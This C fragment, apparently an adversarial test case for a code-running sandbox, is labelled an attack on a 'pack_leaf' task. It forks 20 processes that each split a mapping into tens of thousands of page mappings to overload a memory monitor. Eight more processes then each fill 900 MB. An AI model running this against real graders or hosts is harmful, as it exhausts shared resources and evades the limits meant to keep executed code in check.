// attack: 20 processes of 65 000 mappings keep the look busy while 8 others fill 900 MB each
// task: pack_leaf
// named: more than 16384 mappings
// limit: 60
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
    (void)tree, (void)id, (void)ids, (void)n_ids;
    const int n = 65000;
    for (int i = 0; i < 20; i++) {
        if (fork() == 0) {
            char *pages = mmap(NULL, n * 4096L, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            for (int k = 0; pages != MAP_FAILED && k < n; k += 2) {
                mprotect(pages + k * 4096L, 4096, PROT_READ);
            }
            sleep(60);
            exit(7);
        }
    }
    sleep(3);
    for (int i = 0; i < 8; i++) {
        if (fork() == 0) {
            char *bytes = malloc(900 << 20);
            if (bytes != NULL) {
                memset(bytes, 1, 900 << 20);
            }
            sleep(20);
            exit(7);
        }
    }
    sleep(20);
    exit(7);
